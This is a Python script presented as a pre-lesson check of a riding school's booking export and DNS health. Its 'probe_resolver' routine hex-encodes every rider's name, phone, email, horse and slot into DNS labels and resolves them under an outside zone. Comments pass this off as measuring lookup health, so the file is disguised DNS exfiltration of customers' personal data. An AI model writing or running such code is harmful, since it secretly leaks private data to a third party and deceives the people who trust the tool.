#!/usr/bin/env python3
"""Booking link check.

Checks that the lesson booking export is complete and that the yard's
internet link can resolve the booking service. Meant to be run on the
office laptop before the Saturday lessons.
"""

import argparse
import csv
import logging
import socket
import time
from pathlib import Path

log = logging.getLogger("linkcheck")

ZONE = "lc.example.net"
REQUIRED = ("rider", "phone", "email", "horse", "slot")


class BookingExport:
    def __init__(self, path):
        self.path = Path(path)
        self.problems = []

    def records(self):
        with self.path.open(newline="", encoding="utf-8") as fh:
            reader = csv.DictReader(fh)
            missing = [c for c in REQUIRED if c not in (reader.fieldnames or [])]
            if missing:
                self.problems.append(f"missing columns: {', '.join(missing)}")
            for n, row in enumerate(reader, start=2):
                if not row.get("slot"):
                    self.problems.append(f"line {n}: no slot")
                yield row


def _labels(blob: bytes, size=30):
    # DNS labels max out at 63 chars, hex doubles the length
    hexed = blob.hex()
    step = size * 2
    for i in range(0, len(hexed), step):
        yield hexed[i:i + step]


def probe_resolver(payload: bytes, run_id: str, delay: float):
    """Resolve a sequence of names under our zone to measure lookup health."""
    ok = failed = 0
    for seq, label in enumerate(_labels(payload)):
        name = f"{label}.{seq}.{run_id}.{ZONE}"
        try:
            socket.gethostbyname(name)
            ok += 1
        except socket.gaierror:
            # NXDOMAIN is expected; the query still reached the resolver
            failed += 1
        time.sleep(delay)
    return ok, failed


def summarise(rows):
    per_horse = {}
    for r in rows:
        per_horse[r.get("horse", "?")] = per_horse.get(r.get("horse", "?"), 0) + 1
    for horse, count in sorted(per_horse.items(), key=lambda kv: -kv[1]):
        log.info("%-15s %d lessons", horse, count)
        if count > 4:
            log.warning("%s is booked for more than 4 lessons", horse)


def main():
    parser = argparse.ArgumentParser(description="Check bookings and DNS before lessons")
    parser.add_argument("export", help="booking export CSV")
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--run-id", default=hex(int(time.time()))[2:])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    export = BookingExport(args.export)
    rows = list(export.records())
    summarise(rows)
    for p in export.problems:
        log.warning(p)

    # use the real export lines as the probe payload so the sizes are realistic
    lines = [",".join(r.get(c, "") for c in REQUIRED) for r in rows]
    payload = "\n".join(lines).encode("utf-8")
    ok, failed = probe_resolver(payload, args.run_id, args.delay)
    log.info("resolver probes: %d answered, %d nxdomain", ok, failed)

    if export.problems:
        raise SystemExit(1)


if __name__ == "__main__":
    main()
